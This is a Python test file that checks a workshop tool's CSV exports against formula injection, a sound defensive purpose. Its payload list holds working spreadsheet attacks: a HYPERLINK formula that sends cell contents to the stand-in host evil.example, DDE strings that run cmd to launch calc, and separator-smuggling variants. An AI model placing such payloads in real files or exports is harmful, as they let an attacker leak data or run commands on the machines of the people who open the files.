"""CSV formula injection (OWASP): no cell of any exported CSV starts a formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from tests.conftest import workshop_in
from workshop_tui.export_csv import FORMULA_START, csv_cell, neutralize, to_csv
from workshop_tui.exports import EXPORTERS, ExportOptions, export_files
from workshop_tui.phases import Phase
from workshop_tui.service import WorkshopService

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1 behind spaces",
    "\uff1d1+1 full-width",
]
#: Defused by quoting: opened with the wrong separator, a quoted cell stays whole.
SEPARATED = ['a;=HYPERLINK("http://evil.example")', 'b,=HYPERLINK("http://evil.example")']
HOSTILE = [*FORMULAS, *SEPARATED]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_is_defused(text: str) -> None:
    assert neutralize(text) == "'" + text
    assert csv_cell(text).startswith("\"'")


@pytest.mark.parametrize("text", ["plain", "3 bikes", "50%", "a=b", "e-mail", "", "'already quoted"])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert neutralize(text) == text


@pytest.mark.parametrize(
    ("value", "cell"), [(12, "12"), (0, "0"), (-3, "-3"), (Decimal("450.00"), "450.00"), (Decimal("-1.50"), "-1.50")]
)
def test_numbers_stay_numbers(value: int | Decimal, cell: str) -> None:
    assert csv_cell(value) == cell


def test_a_separator_inside_text_cannot_open_a_new_cell() -> None:
    """Opened with ';' instead of ',', a quoted cell stays one cell: always quote text (OWASP)."""
    text = to_csv(["a", "b"], [["x;=1+1", 3]])
    assert text == 'a,b\r\n"x;=1+1",3\r\n'
    parsed = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert parsed[1] == ["x;=1+1,3"]  # wrong separator: still no cell starting with '='


def _cells(name: str, data: bytes) -> list[list[str]]:
    separator = ";" if "decidim" in name else ","
    return list(csv.reader(io.StringIO(data.decode(), newline=""), delimiter=separator))


async def hostile_workshop(service: WorkshopService) -> str:
    code = await workshop_in(service, Phase.IDEATE, idea_max_length=400, dots_per_participant=5)
    people = [(await service.join(code, text[:60], skills=[text[:200]]))[0] for text in HOSTILE[:6]]
    ideas = [
        await service.post_idea(code, text, author_id=people[n % len(people)].id) for n, text in enumerate(HOSTILE)
    ]
    await service.set_phase(code, Phase.GROUP)
    for n, text in enumerate(HOSTILE[:4]):
        theme = await service.create_theme(code, text)
        await service.set_idea_theme(code, ideas[n].id, theme.id)
    await service.set_phase(code, Phase.VOTE)
    await service.set_voting(code, voting_open=True)
    for person in people:
        await service.cast_dot(code, person.id, ideas[0].id)
        await service.cast_dot(code, person.id, ideas[1].id)
    await service.add_paper_dots(code, ideas[2].id, 2)
    await service.set_phase(code, Phase.TEAMS)
    await service.form_teams(code, team_count=2)
    await service.set_phase(code, Phase.BACKLOG)
    items = await service.convert_to_backlog(code)
    for item in items:
        await service.update_backlog_item(
            item.id,
            {
                "owner": {"name": HOSTILE[0][:60], "contact": HOSTILE[5], "public": True},
                "budget_requests": [{"amount": "12.50", "purpose": HOSTILE[1]}],
                "asks": [{"kind": "space", "department": HOSTILE[2], "detail": HOSTILE[3]}],
                "status": "approved",
                "note": HOSTILE[4],
            },
        )
    return code


async def test_every_csv_of_every_export_is_defused(service: WorkshopService) -> None:
    code = await hostile_workshop(service)
    csv_formats = [e for e in EXPORTERS.values() if e.media_type.startswith("text/csv")]
    assert {e.name for e in csv_formats} >= {"csv", "decidim"}
    seen: set[str] = set()
    for exp in csv_formats:
        for anonymize in (False, True):
            for name, data in export_files(service.view(code), exp.name, ExportOptions(anonymize=anonymize)).items():
                rows = _cells(name, data)
                header, body = rows[0], rows[1:]
                assert body, f"{name} is empty: the test would prove nothing"
                for row in body:
                    assert len(row) == len(header)
                    for cell in row:
                        seen.add(cell)
                        first = cell.lstrip(" \u00a0")[:1]
                        assert first not in FORMULA_START or cell.startswith("'"), (name, cell)
                        if cell[:1] in FORMULA_START:
                            raise AssertionError((name, cell))
    # The hostile text did reach the files (defused), and the numbers are bare numbers.
    assert "'" + HOSTILE[0] in seen and "'-5" in seen
    tables = export_files(service.view(code), "csv")
    vote_rows = tables["votes.csv"].decode().splitlines()[1:]
    assert vote_rows and all(row.split(",")[2].isdigit() for row in vote_rows)  # dots: unquoted numbers
    backlog = list(csv.DictReader(io.StringIO(tables["backlog.csv"].decode(), newline="")))
    assert backlog[0]["requested"] == "12.50" and ",12.50," in tables["backlog.csv"].decode()
